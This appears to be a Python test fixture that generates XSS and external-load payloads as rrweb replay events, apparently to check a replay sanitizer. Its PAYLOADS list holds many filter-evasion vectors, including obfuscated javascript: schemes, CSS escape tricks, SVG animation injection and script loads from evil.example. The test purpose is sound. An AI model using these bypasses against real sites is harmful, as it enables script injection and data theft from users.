"""Markup that tries to run a script or to load something from elsewhere, and rrweb events made of it."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

RUN = "window.top.__hit=1;parent.__hit=1;__hit=1"
AWAY = "http://evil.example/x"


def _words(text: str) -> list[str]:
    return text.split()


_HANDLERS = _words(
    """
    onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend onpointerover
    onpointerenter ontoggle onbeforetoggle onscroll onscrollend onwheel onauxclick oncut oncopy onpaste onbegin onend
    onrepeat onhashchange onpageshow onmessage onpopstate onresize onsearch oninvalid onselectstart onkeydown ONLOAD
    oNerror oncontentvisibilityautostatechange onsecuritypolicyviolation onformdata onslotchange ontouchstart
    onbeforeinput
    """
)
_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"  javascript:{RUN}",
    f"javascript\u200b:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cudG9wLl9faGl0PTE8L3NjcmlwdD4=",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
    AWAY,
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example/x",
]
_ADDRESSES = [
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<img src="{}">',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<svg><use xlink:href="{}"></use></svg>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<video poster="{}" src="{}"></video>',
    '<body background="{}">x</body>',
    '<input type="image" src="{}">',
    '<svg><image href="{}"></image></svg>',
    '<img srcset="{} 2x">',
    '<a ping="{}" href="#">x</a>',
]
_STYLES = [
    "background:url({0})",
    "background:url('{0}')",
    'background:url("{0}")',
    "background:u\\72l({0})",
    "background:\\75\\72\\6c({0})",
    "background:URL( {0} )",
    "background:u\\r\\l({0})",
    "background:image-set('{0}' 1x)",
    "cursor:url({0}),auto",
    "background:-webkit-image-set(url({0}) 1x)",
    "list-style:url({0}",
    "content:url({0})",
    "filter:url({0}#f)",
    "mask:url({0})",
    "behavior:url({0})",
    "-moz-binding:url({0}#x)",
    "width:expression({0})",
    "border-image:url( '{0}' )",
    "offset-path:url({0})",
    "background:\\000075rl({0})",
    "background:url(\\68ttp://evil.example/x)",
    "shape-outside:url({0})",
    "--x:url({0});background:var(--x)",
]
_SHEETS = [
    "@import url({0});",
    "@import '{0}';",
    '@IMPORT "{0}";',
    "@\\69mport '{0}';",
    "@import/**/'{0}';",
    "@\\000069 mport '{0}';",
    "@font-face{{font-family:x;src:url({0})}} body{{font-family:x}}",
    "body{{background:url({0})}}",
    "@namespace url({0});",
    "body{{background:url({0}",
    "/*/*/body{{background:url({0})}}",
    "a{{}}</style><img src=x onerror=1>",
    "@import '{0}'",
    "@media all{{body{{background:u\\rl('{0}')}}}}",
    "@layer a;@import url('{0}');",
]
_WHOLE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<svg><script>{RUN}</script></svg>",
    f"<script src='{AWAY}'></script>",
    f"<svg><animate attributeName='href' values='javascript:{RUN}' begin='0s'></animate></svg>",
    f"<svg><set attributeName='onload' to='{RUN}'></set></svg>",
    f"<svg><a><animate attributeName='href' to='javascript:{RUN}'/></a></svg>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src='about:blank'></iframe>",
    "<frameset><frame></frameset>",
    f"<math><mtext><a xlink:href='javascript:{RUN}'>x</a></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><img src=x onerror='{RUN}'></noscript>",
    "<applet code='x'></applet>",
    "<meta charset='utf-7'>",
    "<object classid='clsid:1'></object>",
    "<link rel='modulepreload' href='/x.js'>",
    "<link rel=import href='/x'>",
    "<portal src='/x'></portal>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<audio src='x' onerror='{RUN}'></audio>",
    f"<video><source onerror='{RUN}' src='x'></video>",
    f"<marquee onstart='{RUN}'>x</marquee>",
    f"<custom-el onclick='{RUN}'>x</custom-el>",
    f"<div is='x' onclick='{RUN}'>x</div>",
    f"<svg onload='{RUN}'></svg>",
    f"<svg><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>",
    f"<img src=x onerror='{RUN}'>",
    "<object type='text/html' data='/login'></object>",
]

PAYLOADS = [
    *(f'<div {handler}="{RUN}" tabindex="1">x</div>' for handler in _HANDLERS),
    *(address.format(scheme, scheme) for address in _ADDRESSES for scheme in _SCHEMES[:: 2 if "img" in address else 1]),
    *(f'<div style="{style.format(AWAY)}">x</div>'.replace('url("', "url('").replace('")', "')") for style in _STYLES),
    *(f"<style>{sheet.format(AWAY)}</style>" for sheet in _SHEETS),
    *_WHOLE,
]


class _Builder(HTMLParser):
    """Makes serialised nodes of markup, as rrweb would record them, without judging anything."""

    VOID = frozenset(_words("area base br col embed hr img input link meta source track wbr frame"))

    def __init__(self, first: int) -> None:
        super().__init__(convert_charrefs=True)
        self.next = first
        self.top: list[dict[str, Any]] = []
        self.path: list[dict[str, Any]] = []
        self.svg = 0

    def node(self, **fields: Any) -> dict[str, Any]:
        self.next += 1
        made = {"id": self.next, **fields}
        (self.path[-1]["childNodes"] if self.path else self.top).append(made)
        return made

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.svg += tag == "svg"
        made = self.node(type=2, tagName=tag, attributes={name: value or "" for name, value in attrs}, childNodes=[])
        if self.svg:
            made["isSVG"] = True
        if tag not in self.VOID:
            self.path.append(made)

    def handle_endtag(self, tag: str) -> None:
        self.svg -= tag == "svg"
        while any(open_["tagName"] == tag for open_ in self.path):
            if self.path.pop()["tagName"] == tag:
                return

    def handle_data(self, data: str) -> None:
        style = bool(self.path) and self.path[-1]["tagName"] == "style"
        self.node(type=3, textContent=data, **({"isStyle": True} if style else {}))


def nodes(markup: str, first: int = 100) -> list[dict[str, Any]]:
    """Serialised nodes of markup; ids count from `first`."""
    builder = _Builder(first)
    builder.feed(markup)
    builder.close()
    return builder.top


def element(tag: str, children: list[dict[str, Any]], number: int, **attributes: Any) -> dict[str, Any]:
    """One serialised element."""
    return {"type": 2, "tagName": tag, "attributes": attributes, "childNodes": children, "id": number}


def page(body: list[dict[str, Any]], head: list[dict[str, Any]] | None = None) -> list[dict[str, Any]]:
    """The events of a page with this body: meta and full snapshot."""
    html = element("html", [element("head", head or [], 4), element("body", body, 5)], 3)
    document = {
        "type": 0,
        "id": 1,
        "childNodes": [{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2}, html],
    }
    return [
        {"type": 4, "timestamp": 1000, "data": {"href": "http://127.0.0.1:9/kiosk", "width": 1080, "height": 1920}},
        {"type": 2, "timestamp": 1001, "data": {"node": document, "initialOffset": {"left": 0, "top": 0}}},
    ]
